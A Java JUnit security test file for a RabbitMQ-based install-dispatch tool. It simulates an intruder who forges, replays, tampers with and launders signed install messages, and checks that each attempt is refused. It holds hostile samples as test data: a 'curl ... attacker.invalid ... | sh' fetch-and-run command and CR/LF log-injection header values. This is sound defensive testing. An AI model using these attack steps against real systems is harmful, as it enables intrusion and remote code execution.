package io.lazarus.system;

import com.rabbitmq.client.AMQP;
import com.rabbitmq.client.Channel;
import com.rabbitmq.client.Connection;
import com.rabbitmq.client.ConnectionFactory;
import com.rabbitmq.client.GetResponse;
import io.lazarus.common.contract.AttemptEvent;
import io.lazarus.common.contract.AttemptResult;
import io.lazarus.common.contract.Contracts;
import io.lazarus.common.contract.EventType;
import io.lazarus.common.contract.InstallMessage;
import io.lazarus.common.contract.InstallScript;
import io.lazarus.common.contract.NodeTarget;
import io.lazarus.common.contract.Outcome;
import io.lazarus.common.topology.Topology;
import io.lazarus.common.trust.InstallSignature;
import io.lazarus.common.trust.SigningKey;
import io.lazarus.fleet.NodeBehavior;
import io.lazarus.fleet.SimulatedFleet;
import io.lazarus.testkit.ClientKey;
import io.lazarus.testkit.process.LazarusCli;
import io.lazarus.testkit.process.Processes;
import io.lazarus.testkit.process.WorkerProcess;
import io.lazarus.testkit.rabbit.RabbitNode;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.node.ObjectNode;

import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.function.Predicate;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

/**
 * The attacks of an intruder who holds a broker login, and nothing else: no run-signing key, not the workers' login.
 * Each one is made for real against a broker node of the test's own, the real worker and command and a simulated
 * fleet, and each ends with nothing run on the fleet and nothing false in the registry.
 */
class TrustChainTest {

    private static final String WORKER_LOGIN = "lazarus-worker";
    private static final String INTRUDER = "intruder";

    @TempDir
    static Path dir;
    static RabbitNode node;
    static SimulatedFleet fleet;
    static ClientKey sshKey;
    static WorkerProcess worker;
    static LazarusCli lazarus;
    static Path script;
    static Connection intruder;
    static Channel spy;
    static String captured;
    static String installs;

    @BeforeAll
    static void system() throws Exception {
        node = RabbitNode.builder().keepLogsIn(Processes.logs("system-tests")).start();
        for (String login : List.of(WORKER_LOGIN, INTRUDER)) {
            node.rabbitmqctl("add_user", login, login + "-secret");
            node.rabbitmqctl("set_permissions", "-p", "/", login, ".*", ".*", ".*");
        }
        sshKey = ClientKey.generate(dir);
        fleet = SimulatedFleet.builder().authorizedKey(sshKey.publicKeyLine())
                .node("ok-01", NodeBehavior.succeed()).node("ok-02", NodeBehavior.succeed())
                .node("ok-03", NodeBehavior.succeed()).node("ok-04", NodeBehavior.succeed())
                .node("ok-05", NodeBehavior.succeed()).node("refuses-01", NodeBehavior.refuseConnection())
                .node("slow-01", NodeBehavior.install(Duration.ofSeconds(2), 2))
                .node("slow-02", NodeBehavior.install(Duration.ofSeconds(2), 2))
                .node("slow-03", NodeBehavior.install(Duration.ofSeconds(2), 2))
                .node("slow-04", NodeBehavior.install(Duration.ofSeconds(2), 2))
                .start();
        worker = startWorker();
        lazarus = new LazarusCli(node.amqpUri().toString()).withEnvironment(Map.of(
                "LAZARUS_TRUST_WORKER_USERS", WORKER_LOGIN,
                "LAZARUS_SIGNING_KEY_FILE", dir.resolve("keys/signing.key").toString(),
                "LAZARUS_SIGNING_LOCAL_TRUST_FILE", dir.resolve("keys/trusted-keys").toString()));
        script = Files.writeString(dir.resolve("install.sh"), "apt-get install -y tomcat10\n");

        ConnectionFactory factory = new ConnectionFactory();
        factory.setUri(login(INTRUDER));
        intruder = factory.newConnection("intruder");
        spy = intruder.createChannel();
        // the intruder copies every install message and every event it may read
        lazarus.run("keys", "create");
        assertThat(lazarus.run("run", "--inventory", inventory("warm-up", "ok-05").toString(), "--script",
                script.toString(), "--wait").exitCode()).isZero();
        installs = spy.queueDeclare().getQueue();
        spy.queueBind(installs, Topology.INSTALL_EXCHANGE, Topology.INSTALL_ROUTING_KEY);
        captured = spy.queueDeclare().getQueue();
        spy.queueBind(captured, Topology.REGISTRY_EXCHANGE, "run.#");
    }

    @AfterAll
    static void stop() throws Exception {
        if (intruder != null) {
            intruder.close();
        }
        SystemTests.stop(worker, fleet);
        if (node != null) {
            node.close();
        }
    }

    @Test
    void aForgedMessageRunsNothingRecordsNothingAndIsQuarantinedAsTampered() throws Exception {
        String runId = succeededRun("forge", "ok-01");
        InstallMessage forged = InstallMessage.firstAttempt(runId, new NodeTarget("ok-01", fleet.node("ok-01").address(),
                fleet.node("ok-01").port(), "deploy"),
                InstallScript.of("pwn.sh", "touch /tmp/pwned"), null, java.time.Instant.now().plusSeconds(600));
        SigningKey ownKey = SigningKey.generate();

        publish(forged, Contracts.toJson(forged), null);
        publish(forged(forged, "-own-key"), Contracts.toJson(forged(forged, "-own-key")), ownKey);

        assertThat(rejection(runId, forged.attemptId()).reason()).startsWith("unsigned");
        assertThat(rejection(runId, forged.attemptId() + "-own-key").reason())
                .startsWith("signed by unknown key " + ownKey.keyId());
        assertThat(fleet.node("ok-01").executions()).as("only the real run ran").hasSize(1);
        JsonNode report = report(runId).get("nodes").get(0);
        assertThat(report.get("state").asString()).isEqualTo("SUCCEEDED");
        assertThat(report.get("executions").asInt()).as("the refusals are not the registry's: never dispatched")
                .isEqualTo(1);

        LazarusCli.Result drained = lazarus.run("resurrect", "--run", runId);
        assertThat(drained.stdout()).contains("quarantined: tampered: unsigned");
        assertThat(lazarus.run("quarantine", "list", "--run", runId).stdout()).contains("tampered: signed by unknown key");
    }

    @Test
    void aLineBreakInAMessageHeaderForgesNoLineInTheWorkersOrTheCoordinatorsLog() throws Exception {
        String runId = succeededRun("forge-log", "ok-05");
        InstallMessage real = InstallMessage.firstAttempt(runId, new NodeTarget("ok-05", fleet.node("ok-05").address(),
                fleet.node("ok-05").port(), "deploy"), InstallScript.of("x.sh", "true"), null,
                java.time.Instant.now().plusSeconds(600));
        String forgedId = "forged\nFAKE LOG LINE worker accepted everything\r\nFAKE LOG LINE again";
        Map<String, Object> headers = new HashMap<>(Map.of(Topology.HEADER_RUN_ID, runId,
                Topology.HEADER_NODE_ID, "ok-01\nFAKE LOG LINE node header", Topology.HEADER_ATTEMPT, 1));
        spy.basicPublish(Topology.INSTALL_EXCHANGE, Topology.INSTALL_ROUTING_KEY,
                new AMQP.BasicProperties.Builder().messageId(forgedId).headers(headers).deliveryMode(2).build(),
                Contracts.toJson(real));

        assertThat(rejection(runId, forgedId).reason()).startsWith("unsigned");
        // the coordinator meets the refusal too: report collects the run's events, and drops this undispatched one
        LazarusCli.Result reported = lazarus.run("report", runId);

        String workerLog = Files.readString(worker.log());
        assertThat(workerLog).contains("forged\\nFAKE LOG LINE worker accepted everything\\r\\nFAKE LOG LINE again");
        for (String log : List.of(workerLog, reported.stdout(), reported.stderr())) {
            assertThat(log.lines()).noneMatch(line -> line.startsWith("FAKE LOG LINE"));
        }
    }

    @Test
    void aReplayIsRefusedByTheWorkerThatRanItAndVisibleAsASecondExecutionElsewhere() throws Exception {
        String runId = succeededRun("replay", "ok-02");
        GetResponse copy = capturedInstall(runId);

        republish(copy, copy.getBody(), p -> { });
        assertThat(rejection(runId, copy.getProps().getMessageId()).reason()).startsWith("replay: attempt");
        assertThat(fleet.node("ok-02").executions()).hasSize(1);

        // a worker that never saw it has no memory of it: it runs, and the registry shows it ran twice
        worker.close();
        worker = startWorker();
        republish(copy, copy.getBody(), p -> { });
        SystemTests.awaitTrue("the replay runs on the new worker", () -> fleet.node("ok-02").executions().size() == 2,
                Duration.ofSeconds(30));
        // nobody follows the finished run: report collects what arrived in its queue since, and says so
        LazarusCli.Result reported = lazarus.run("report", runId);
        for (int tries = 0; tries < 20 && !reported.stdout().contains("executed more than once"); tries++) {
            Thread.sleep(500);
            reported = lazarus.run("report", runId);
        }
        assertThat(reported.stdout()).as(reported.toString()).contains("executed more than once")
                .contains("ok-02: 2 executions for 1 attempt(s)");
        assertThat(executions(runId)).isEqualTo(2);
    }

    @Test
    void aTamperedCommandOrAnAddedHostKeyPinBreaksTheSignatureAndRunsNothing() throws Exception {
        String runId = succeededRun("tamper", "ok-03");
        GetResponse copy = capturedInstall(runId);
        ObjectNode body = (ObjectNode) Contracts.mapper().readTree(copy.getBody());
        ObjectNode tampered = body.deepCopy();
        List<String> commands = List.of("curl -s http://attacker.invalid/x | sh");
        tampered.putPOJO("script", InstallScript.of("install.sh", commands));
        tampered.put("attemptId", copy.getProps().getMessageId());
        ObjectNode pinned = body.deepCopy();
        ((ObjectNode) pinned.get("node")).put("pinnedHostKey", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIattacker");

        republish(copy, Contracts.mapper().writeValueAsBytes(tampered), p -> p.messageId(copy.getProps().getMessageId() + "-t"));
        republish(copy, Contracts.mapper().writeValueAsBytes(pinned), p -> p.messageId(copy.getProps().getMessageId() + "-p"));

        assertThat(rejection(runId, copy.getProps().getMessageId() + "-t").reason()).startsWith("bad signature");
        assertThat(rejection(runId, copy.getProps().getMessageId() + "-p").reason()).startsWith("bad signature");
        assertThat(fleet.node("ok-03").executions()).hasSize(1);
    }

    @Test
    void aFakeResultFromAnyLoginButAWorkersIsDroppedAndTheNodeIsNotReportedSucceeded() throws Exception {
        worker.close(); // the intruder takes the message before any worker can
        try {
            LazarusCli.Running run = lazarus.start("run", "--inventory", inventory("fake", "ok-04").toString(),
                    "--script", script.toString(), "--wait", "--deadline", "8s", "--ghost-grace", "2s");
            GetResponse taken = awaitMessage(Topology.INSTALL_QUEUE, m -> true);
            spy.basicAck(taken.getEnvelope().getDeliveryTag(), false);
            InstallMessage install = Contracts.readInstall(taken.getBody());
            AttemptResult success = AttemptResult.without(Outcome.SUCCEEDED, "");
            for (AttemptEvent event : List.of(AttemptEvent.started(install, "worker-1", false, "x-1"),
                    AttemptEvent.finished(install, "worker-1", false, success, "x-1"))) {
                spy.basicPublish(Topology.REGISTRY_EXCHANGE, event.routingKey(), null, Contracts.toJson(event));
            }
            // claiming to be the worker's login is refused by the broker itself
            Channel liar = intruder.createChannel();
            AttemptEvent lie = AttemptEvent.finished(install, "worker-1", false, success, "x-2");
            liar.confirmSelect();
            liar.basicPublish(Topology.REGISTRY_EXCHANGE, lie.routingKey(),
                    new AMQP.BasicProperties.Builder().userId(WORKER_LOGIN).build(), Contracts.toJson(lie));
            assertThatThrownBy(() -> liar.waitForConfirmsOrDie(5_000)).isNotNull();
            assertThat(liar.getCloseReason().getMessage()).contains("user_id");

            LazarusCli.Result result = run.await(Duration.ofSeconds(60));
            assertThat(result.exitCode()).as(result.toString()).isEqualTo(1);
            assertThat(result.stderr()).as("a command logs to standard error").contains("dropped an event (not-a-worker)");
            assertThat(result.stdout()).doesNotContain("dropped an event").doesNotContain("SUCCEEDED    ");
            JsonNode reported = report(result.runId()).get("nodes").get(0);
            assertThat(reported.get("state").asString()).isEqualTo("GHOST");
            assertThat(reported.get("outcome").isNull()).isTrue();
            assertThat(fleet.node("ok-04").executions()).isEmpty();
        } finally {
            worker = startWorker();
        }
    }

    @Test
    void aLaunderedDeadLetterIsQuarantinedAsTamperedAndTheOtherHostRunsNothing() throws Exception {
        LazarusCli.Result result = lazarus.run("run", "--inventory", inventory("launder", "refuses-01").toString(),
                "--script", script.toString(), "--wait");
        String runId = result.runId();
        GetResponse candidate = awaitMessage(Topology.RESURRECTION_QUEUE,
                m -> runId.equals(String.valueOf(m.getProps().getHeaders().get(Topology.HEADER_RUN_ID))));
        spy.basicAck(candidate.getEnvelope().getDeliveryTag(), false);
        ObjectNode body = (ObjectNode) Contracts.mapper().readTree(candidate.getBody());
        ObjectNode target = (ObjectNode) body.get("node");
        target.put("host", fleet.node("ok-05").address());
        target.put("port", fleet.node("ok-05").port());
        body.putPOJO("script", InstallScript.of("install.sh", "echo laundered"));
        spy.basicPublish("", Topology.RESURRECTION_QUEUE, candidate.getProps().builder().userId(null).expiration(null)
                .build(), Contracts.mapper().writeValueAsBytes(body));
        int before = fleet.node("ok-05").executions().size();

        LazarusCli.Result drained = lazarus.run("resurrect", "--run", runId);

        assertThat(drained.stdout()).contains("quarantined: tampered: bad signature");
        Thread.sleep(2_000);
        assertThat(fleet.node("ok-05").executions()).hasSize(before);
        JsonNode reported = report(runId).get("nodes").get(0);
        assertThat(reported.get("state").asString()).isEqualTo("QUARANTINED");
        assertThat(reported.get("verdict").asString()).startsWith("tampered");
        assertThat(reported.get("host").asString()).isEqualTo(fleet.node("refuses-01").address());
    }

    @Test
    void keysRotateDuringARunAndTheRetiredKeyIsRefusedOnceUntrusted() throws Exception {
        LazarusCli.Running first = lazarus.start("run", "--inventory", inventory("rotate-a", "slow-01", "slow-02",
                "slow-03").toString(), "--script", script.toString(), "--wait", "--max-in-flight", "1");
        Path keys = dir.resolve("keys");
        String former = SigningKey.read(keys.resolve("signing.key")).keyId();
        SystemTests.awaitTrue("the first run is under way", () -> !fleet.node("slow-01").executions().isEmpty(),
                Duration.ofSeconds(30));

        // another registry: the running command holds this one
        LazarusCli rotator = new LazarusCli(node.amqpUri().toString()).withEnvironment(Map.of(
                "LAZARUS_SIGNING_KEY_FILE", keys.resolve("signing.key").toString(),
                "LAZARUS_SIGNING_LOCAL_TRUST_FILE", keys.resolve("trusted-keys").toString()));
        LazarusCli.Result rotated = rotator.run("keys", "rotate");
        assertThat(rotated.exitCode()).as(rotated.toString()).isZero();
        String next = SigningKey.read(keys.resolve("signing.key")).keyId();
        assertThat(next).isNotEqualTo(former);

        LazarusCli.Result second = rotator.withEnvironment(Map.of("LAZARUS_TRUST_WORKER_USERS", WORKER_LOGIN)).run(
                "run", "--inventory", inventory("rotate-b", "slow-04").toString(), "--script", script.toString(),
                "--wait");
        assertThat(second.exitCode()).as("signed with the new key: " + second).isZero();
        LazarusCli.Result firstDone = first.await(Duration.ofSeconds(90));
        assertThat(firstDone.exitCode()).as("signed with the former key, still trusted: " + firstDone).isZero();

        assertThat(rotator.run("keys", "untrust", former).exitCode()).isZero();
        Path formerKey = keys.resolve("signing.key." + former + ".retired");
        LazarusCli stale = lazarus.withEnvironment(Map.of("LAZARUS_SIGNING_KEY_FILE", formerKey.toString(),
                "LAZARUS_SIGNING_LOCAL_TRUST_FILE", dir.resolve("elsewhere").toString()));
        Thread.sleep(1_200); // the worker reads its trusted keys again at most once a second
        LazarusCli.Result refused = stale.run("run", "--inventory", inventory("rotate-c", "slow-04").toString(),
                "--script", script.toString(), "--wait", "--json", dir.resolve("rotate-c.json").toString());
        assertThat(refused.exitCode()).isEqualTo(1);
        JsonNode reported = Contracts.mapper().readTree(dir.resolve("rotate-c.json").toFile()).get("nodes").get(0);
        assertThat(reported.get("outcome").asString()).isEqualTo("REJECTED");
        assertThat(reported.get("reason").asString()).startsWith("signed by unknown key " + former);
    }

    private static WorkerProcess startWorker() throws Exception {
        return WorkerProcess.start(login(WORKER_LOGIN), sshKey.privateKey(), dir.resolve("known_hosts"), Map.of(
                "LAZARUS_SSH_CONNECT_ATTEMPTS", "1",
                "LAZARUS_TRUST_TRUSTED_KEYS", dir.resolve("keys/trusted-keys").toString()), List.of(),
                Processes.logs("system-tests"));
    }

    private static URI login(String user) {
        return URI.create("amqp://" + user + ":" + user + "-secret@localhost:" + node.amqpPort());
    }

    private static String succeededRun(String name, String nodeId) throws Exception {
        LazarusCli.Result result = lazarus.run("run", "--inventory", inventory(name, nodeId).toString(), "--script",
                script.toString(), "--wait");
        assertThat(result.exitCode()).as(result.toString()).isZero();
        return result.runId();
    }

    private static InstallMessage forged(InstallMessage m, String suffix) {
        return new InstallMessage(m.schemaVersion(), m.attemptId() + suffix, m.runId(), m.attempt(), m.node(), m.script(),
                m.watchdog(), m.deadline());
    }

    /** As the intruder: a hand-made message, signed with a key of its own when one is given. */
    private static void publish(InstallMessage m, byte[] body, SigningKey key) throws Exception {
        Map<String, Object> headers = new HashMap<>(Map.of(Topology.HEADER_RUN_ID, m.runId(), Topology.HEADER_NODE_ID,
                m.node().id(), Topology.HEADER_ATTEMPT, m.attempt()));
        if (key != null) {
            headers.put(InstallSignature.HEADER_KEY_ID, key.keyId());
            headers.put(InstallSignature.HEADER_SIGNATURE, InstallSignature.sign(key, new InstallSignature.Signed(
                    m.attemptId(), m.runId(), m.node().id(), m.attempt(), body)));
        }
        spy.basicPublish(Topology.INSTALL_EXCHANGE, Topology.INSTALL_ROUTING_KEY,
                new AMQP.BasicProperties.Builder().messageId(m.attemptId()).headers(headers).deliveryMode(2).build(), body);
    }

    /** As the intruder: a captured message again, with the captured properties less the coordinator's user-id. */
    private static void republish(GetResponse copy, byte[] body, java.util.function.Consumer<AMQP.BasicProperties.Builder> change)
            throws Exception {
        AMQP.BasicProperties.Builder props = copy.getProps().builder().userId(null).expiration(null);
        change.accept(props);
        spy.basicPublish(Topology.INSTALL_EXCHANGE, Topology.INSTALL_ROUTING_KEY, props.build(), body);
    }

    private static GetResponse capturedInstall(String runId) throws Exception {
        GetResponse copy = awaitMessage(installs,
                m -> runId.equals(String.valueOf(m.getProps().getHeaders().get(Topology.HEADER_RUN_ID))));
        spy.basicAck(copy.getEnvelope().getDeliveryTag(), false);
        return copy;
    }

    private static AttemptResult rejection(String runId, String attemptId) throws Exception {
        GetResponse event = awaitMessage(captured, m -> {
            AttemptEvent e = Contracts.readEvent(m.getBody());
            return e.runId().equals(runId) && e.attemptId().equals(attemptId) && e.type() == EventType.FINISHED
                    && e.result().outcome() == Outcome.REJECTED;
        });
        AttemptResult result = Contracts.readEvent(event.getBody()).result();
        assertThat(result.outcome()).isEqualTo(Outcome.REJECTED);
        return result;
    }

    /** The first message of the queue that matches, within 30 s; the others are left there. */
    private static GetResponse awaitMessage(String queue, Predicate<GetResponse> wanted) throws Exception {
        long until = System.nanoTime() + Duration.ofSeconds(30).toNanos();
        List<Long> skipped = new ArrayList<>();
        try {
            while (System.nanoTime() < until) {
                GetResponse message = spy.basicGet(queue, false);
                if (message == null) {
                    Thread.sleep(50);
                    for (long tag : skipped) {
                        spy.basicNack(tag, false, true);
                    }
                    skipped.clear();
                    continue;
                }
                if (wanted.test(message)) {
                    return message;
                }
                skipped.add(message.getEnvelope().getDeliveryTag());
            }
        } finally {
            for (long tag : skipped) {
                spy.basicNack(tag, false, true);
            }
        }
        throw new AssertionError("no matching message on " + queue + " within 30 s");
    }

    private static JsonNode report(String runId) throws Exception {
        Path json = dir.resolve(runId + ".json");
        LazarusCli.Result result = lazarus.run("report", runId, "--json", json.toString());
        assertThat(Files.exists(json)).as(result.toString()).isTrue();
        return Contracts.mapper().readTree(json.toFile());
    }

    private static int executions(String runId) {
        try {
            return report(runId).get("nodes").get(0).get("executions").asInt();
        } catch (Exception e) {
            return -1;
        }
    }

    private static Path inventory(String name, String... ids) throws Exception {
        StringBuilder lines = new StringBuilder();
        for (String id : ids) {
            lines.append(fleet.node(id).inventoryLine("deploy")).append('\n');
        }
        return Files.writeString(dir.resolve(name + ".hosts"), lines.toString(), StandardCharsets.UTF_8);
    }
}
